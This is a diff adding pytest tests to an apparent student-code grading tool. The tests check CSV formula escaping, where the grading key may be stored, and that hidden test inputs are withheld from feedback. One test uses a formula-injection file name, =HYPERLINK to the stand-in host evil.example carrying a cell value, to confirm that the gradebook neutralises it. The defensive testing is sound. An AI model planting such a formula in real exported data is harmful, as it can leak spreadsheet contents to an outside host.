@@ -629,10 +629,12 @@ def test_a_learner_named_like_a_formula_is_defused_in_the_gradebook(course: Cour
     directory = honest_class(tmp_path / "class")
     name = '=HYPERLINK("https:evil.example?"&A1,"click")'
     (directory / f"{name}__double.py").write_text(DOUBLE, encoding="utf-8")
+    (directory / f"+{name}").mkdir()  # an empty folder: its note starts with the name too
     out = tmp_path / "out" / "grades.csv"
     course.grade(directory, out)
     _, rows = read_gradebook(out)
     assert rows["'" + name] == ["", "1", "1", "3", ""]
+    assert rows["'+" + name][-1].startswith("'+=HYPERLINK")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.items() for cell in (row[0], *row[1]))
 
 
@@ -717,6 +719,35 @@ def test_a_grader_error_is_tried_again_on_the_next_run(tmp_path: Path, monkeypat
     broken["now"] = False
     assert graded_count(course.grade(directory, out).output) == 1
     assert read_gradebook(out)[1]["mallory"] == ["", "1", "1", "3", ""]
+
+
+def test_the_grading_key_may_not_live_inside_the_class_folder(
+    course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    directory = honest_class(tmp_path / "class")
+    monkeypatch.setenv("QUIZKIT_HOME", str(directory / ".quizkit"))
+    result = course.grade(directory, tmp_path / "out" / "grades.csv")
+    assert result.exit_code == 2 and "would lie inside" in result.output and result.output.count("\n") == 1
+
+
+def test_feedback_of_a_hidden_case_says_failed_and_nothing_more(tmp_path: Path, mock_sandbox: list[Job]) -> None:
+    hidden = LESSON.replace(
+        "      - name: vector\n        args: {x: [1.0, -1.5]}",
+        "      - name: vector\n        hidden: true\n        args: {x: [1.0, -1.5]}",
+    )
+    course = make_course(tmp_path / "course", hidden)
+    (tmp_path / "class").mkdir()
+    scalar_only = "def double(x):\n    print('got', x)\n    return 2 * float(x)\n"
+    (tmp_path / "class" / "alice__double.py").write_text(scalar_only, encoding="utf-8")
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(tmp_path / "class", out)
+    text = (out.parent / "feedback" / "alice.json").read_text(encoding="utf-8")
+    [result] = json.loads(text)["files"]["double"]["results"]
+    assert [(t["name"], t["hidden"], t["status"]) for t in result["tests"]] == [
+        ("two", False, "passed"),
+        ("vector", True, "failed"),
+    ]
+    assert "-1.5" not in text and "1.0, " not in text and result["output_withheld"] is True
 
 
 # --- grade-time seeds and isolation -----------------------------------------------------------
